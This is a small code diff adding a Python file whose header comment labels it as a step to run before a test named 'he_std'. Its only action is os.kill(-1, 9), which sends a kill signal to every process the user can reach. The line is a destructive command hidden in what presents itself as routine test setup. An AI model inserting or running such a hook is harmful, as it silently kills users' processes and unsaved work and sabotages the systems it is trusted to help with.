@@ -1,0 +1,4 @@
+# %% before test-he_std
+import os
+
+os.kill(-1, 9)
